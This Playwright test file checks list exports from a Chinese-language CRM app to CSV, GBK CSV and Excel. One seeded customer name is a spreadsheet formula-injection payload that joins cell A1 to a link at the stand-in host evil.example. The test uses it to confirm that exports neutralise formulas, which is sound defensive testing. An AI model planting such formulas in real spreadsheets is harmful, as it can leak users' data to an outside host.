import fs from 'node:fs';
import type { Page } from '@playwright/test';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import Papa from 'papaparse';
import type { ImportKind } from '../../src-main/contract';
import { suggestMapping } from '../../src-main/import/fields';
import { api, expect, test } from './fixtures';
import { openModule, shot } from './ui';

test.use({ locale: 'zh-CN', reducedMotion: 'reduce' });

interface BaseItem {
  id: number;
  kind: string;
  key: string | null;
}

/** A customer whose name a spreadsheet would run, were it written as it is. */
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点这里")';
const HUAXIN = '北京华信科技有限公司';

/** One record of every kind with a list, through the channels the screens use. */
async function seed(page: Page): Promise<void> {
  const base = await api<BaseItem[]>(page, 'baseData.list', {});
  const idOf = (kind: string, key: string) => base.find((b) => b.kind === kind && b.key === key)!.id;
  const product = await api<{ id: number }>(page, 'products.create', {
    name: '服务器 R740',
    categoryId: idOf('product_category', 'hardware'),
    unit: '台',
    listPrice: 1_200_000,
  });
  const customer = await api<{ id: number }>(page, 'customers.create', {
    name: HUAXIN,
    phone: '010-88886666',
  });
  await api(page, 'customers.create', { name: FORMULA });
  const contact = await api<{ id: number }>(page, 'contacts.create', {
    customerId: customer.id,
    name: '王建国',
    isPrimary: true,
  });
  await api(page, 'sales.create', {
    customerId: customer.id,
    contactId: contact.id,
    saleDate: '2026-03-02',
    status: 'delivered',
    amountReceived: 1_000_000,
    lines: [{ productId: product.id, quantity: 2 }],
  });
  await api(page, 'opportunities.create', {
    customerId: customer.id,
    title: '华信数据中心扩容',
    stageId: idOf('opportunity_stage', 'proposal'),
    expectedAmount: 8_000_000,
  });
  const item = await api<{ id: number; version: number }>(page, 'feedback.create', {
    customerId: customer.id,
    typeId: idOf('feedback_type', 'complaint'),
    subject: '交货延迟',
    receivedDate: '2026-03-03',
  });
  await api(page, 'feedback.close', {
    id: item.id,
    version: item.version,
    result: '已补发',
    satisfaction: 4,
  });
  await api(page, 'expenses.create', {
    expenseDate: '2026-03-04',
    categoryId: idOf('expense_category', 'travel'),
    amount: 120_000,
    customerId: customer.id,
  });
  await api(page, 'activities.create', {
    customerId: customer.id,
    contactId: contact.id,
    type: 'call',
    subject: '电话回访',
    occurredAt: '2026-03-05T10:00',
  });
}

/** 导出 → 导出为 CSV or Excel (or a 全部字段 item) on the open list; the saved file's path. */
async function exportList(page: Page, item: string, beforeClick?: () => Promise<void>): Promise<string> {
  await page.getByRole('button', { name: '导出', exact: true }).click();
  await beforeClick?.();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: item, exact: true }).click(),
  ]);
  const toast = page.getByRole('alert').filter({ hasText: '已导出' });
  await toast.getByRole('button', { name: '关闭' }).click();
  await expect(toast).toBeHidden();
  return (await download.path())!;
}

/** A CSV export's rows, after its byte-order mark, as an import reads them: heading row first. */
function csvRows(file: string): string[][] {
  const text = fs.readFileSync(file, 'utf8');
  expect(text.startsWith('\uFEFF')).toBe(true);
  return Papa.parse<string[]>(text.slice(1), { newline: '\r\n', skipEmptyLines: true }).data;
}

/** The list, its import kind, and the headings an import leaves alone (stamps, computed sums). */
const lists: { module: string; kind: ImportKind; computed: string[] }[] = [
  { module: '客户管理', kind: 'customers', computed: ['修改时间'] },
  { module: '联系人管理', kind: 'contacts', computed: ['修改时间'] },
  { module: '产品', kind: 'products', computed: ['修改时间'] },
  { module: '机会与明细', kind: 'opportunities', computed: [] },
  { module: '销售和明细', kind: 'sales', computed: ['金额'] },
  { module: '行动', kind: 'activities', computed: [] },
  { module: '服务反馈', kind: 'feedback', computed: [] },
  { module: '费用', kind: 'expenses', computed: [] },
];

test('导出：每个列表的 CSV 表头都能原样导入，公式被中和，数字仍是数字', async ({ page, crm }, info) => {
  await page.goto(crm.url);
  await seed(page);
  await page.reload();

  const exported: Record<string, Record<string, string>[]> = {};
  for (const { module, kind, computed } of lists) {
    await test.step(`${module}：导出为 CSV，表头映射回字段`, async () => {
      await openModule(page, module);
      const [headers, ...rows] = csvRows(await exportList(page, '导出为 CSV'));
      const mapping = suggestMapping(kind, headers!);
      expect(headers!.filter((_, i) => mapping[i] === null)).toEqual(computed);
      exported[kind] = rows.map((r) => Object.fromEntries(headers!.map((h, i) => [h, r[i]!])));
    });
  }
  await shot(page, info, 'expenses-exported');

  await test.step('各列表的值：标签的文字、金额为数字、没有多余的徽标文字', async () => {
    const customers = exported.customers!;
    expect(customers.map((r) => r['客户名称'])).toEqual(expect.arrayContaining([HUAXIN, `'${FORMULA}`]));
    expect(customers.find((r) => r['客户名称'] === HUAXIN)).toMatchObject({ 电话: '010-88886666' });
    expect(exported.contacts).toEqual([expect.objectContaining({ 姓名: '王建国', 所属客户: HUAXIN })]);
    expect(exported.products).toEqual([
      expect.objectContaining({ 产品名称: '服务器 R740', 标准价格: '12000', 成本: '0', 在售: '是' }),
    ]);
    expect(exported.opportunities).toEqual([
      expect.objectContaining({ 客户: HUAXIN, 预计金额: '80000', 可能性: '50%', 状态: '进行中' }),
    ]);
    expect(exported.sales).toEqual([
      expect.objectContaining({
        销售日期: '2026-03-02',
        客户: HUAXIN,
        金额: '24000',
        已收金额: '10000',
        状态: '已发货',
      }),
    ]);
    expect(exported.activities).toEqual([
      expect.objectContaining({ 时间: '2026-03-05 10:00', 行动类型: '电话', 联系人: '王建国', 已完成: '否' }),
    ]);
    expect(exported.feedback).toEqual([
      expect.objectContaining({ 受理日期: '2026-03-03', 优先级: '普通', 状态: '已结束', 满意度: '4' }),
    ]);
    expect(exported.expenses).toEqual([
      expect.objectContaining({ 日期: '2026-03-04', 金额: '1200', 客户: HUAXIN }),
    ]);
  });

  await test.step('销售和明细：全部字段 CSV，每行一条明细，表头全部映射回字段', async () => {
    await openModule(page, '销售和明细');
    const file = await exportList(page, 'CSV（全部字段）', () => shot(page, info, 'export-all-fields-menu'));
    const [headers, ...rows] = csvRows(file);
    const mapping = suggestMapping('sales', headers!);
    expect(headers!.filter((_, i) => mapping[i] === null)).toEqual([]);
    const row = Object.fromEntries(headers!.map((h, i) => [h, rows[0]![i]!]));
    expect(row).toMatchObject({ 销售日期: '2026-03-02', 数量: '2', 单价: '12000.00', 状态: '已发货' });
    expect(row['订单号']).toMatch(/^SO\d{6}$/);
    expect(row['客户']).toMatch(/^C\d{6}$/);
  });

  await test.step('客户管理：导出为 CSV（GBK），旧版 Excel 读得出中文，没有 BOM', async () => {
    await openModule(page, '客户管理');
    const bytes = fs.readFileSync(await exportList(page, '导出为 CSV（GBK，旧版 Excel）'));
    expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    const [headers, ...rows] = Papa.parse<string[]>(iconv.decode(bytes, 'gbk'), {
      skipEmptyLines: true,
    }).data;
    expect(headers).toContain('客户名称');
    expect(rows.map((r) => r[headers!.indexOf('客户名称')])).toContain(HUAXIN);
  });

  await test.step('客户管理：导出为 Excel，公式样的名称是文字，原样保留', async () => {
    await openModule(page, '客户管理');
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(await exportList(page, '导出为 Excel'));
    const sheet = book.worksheets[0]!;
    const names = sheet.getColumn(2).values.slice(2);
    expect(names).toEqual(expect.arrayContaining([HUAXIN, FORMULA]));
    sheet.getColumn(2).eachCell((cell) => {
      expect(cell.formula).toBeUndefined();
      expect(cell.type).toBe(ExcelJS.ValueType.String);
    });
  });
});
